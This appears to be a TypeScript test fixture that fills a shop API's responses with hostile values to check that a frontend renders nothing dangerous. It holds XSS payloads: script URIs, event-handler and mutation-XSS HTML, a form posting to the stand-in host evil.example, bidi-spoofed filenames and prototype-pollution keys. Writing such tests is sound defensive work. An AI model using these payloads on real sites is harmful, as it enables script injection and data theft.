/** The scenario `hostile`: every text, address and map of an answer tries to break out. Nothing of it may run or mislead. */
import { type Json, walk } from './walk.ts'

const IDS = new Set(['productId', 'skuId', 'ean', 'merchantId', 'merchantProductId', 'name', 'q'])
const ADDRESSES = /url$|^images$|^videos$|^merchantLogo$/i
/** Sets a flag that tests look for. */
const RUN = 'globalThis.__hostile=true'

const ADDRESS_LIST = [
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//evil.example/"onerror="${RUN}`,
  ` jAvAsCrIpT:${RUN}`,
]
const HTML = `<p onclick="${RUN}" style="position:fixed;inset:0">Soft <b>cotton</b><script>${RUN}</script>
<img src="x" onerror="${RUN}"><svg onload="${RUN}"><a xlink:href="javascript:${RUN}">x</a></svg>
<iframe srcdoc="<script>${RUN}</script>"></iframe><a href="javascript:${RUN}">link</a><form action="//evil.example"><input name="key"></form>
<math><mtext><table><mglyph><style><img src onerror="${RUN}"></style></table></p>`
const TEXT = `<img src=x onerror="${RUN}"><script>${RUN}</script>\u202E\u2066fdp.exe\u0000{{7*7}}`

const MAPS = new Set(['traits', 'extAttributes', 'attributes', 'value', 'featuredFacets'])
const KEYS = ['__proto__', 'constructor', 'toString', TEXT]

/** An address stays the same for the same text, so that a reload shows the same. */
const addressFor = (value: string): string => ADDRESS_LIST[value.length % ADDRESS_LIST.length] ?? ''

const textFor = (value: string, key: string): string => {
  if (IDS.has(key)) return value
  if (ADDRESSES.test(key)) return addressFor(value)
  if (key === 'description') return HTML
  return value === '' ? value : `${value} ${TEXT}`
}

const entriesFor = (entries: [string, Json][], key: string): [string, Json][] => {
  if (MAPS.has(key)) {
    const counts = key === 'value'
    return [...entries, ...KEYS.map((name): [string, Json] => [name, counts ? 3 : TEXT])]
  }
  return [
    ...entries,
    ['__proto__', { polluted: true, title: TEXT }],
    ['constructor', { prototype: TEXT }],
  ]
}

export const hostileBody = (body: unknown): unknown =>
  // a reply is JSON before it is text
  walk(body as Json, { text: textFor, entries: entriesFor })
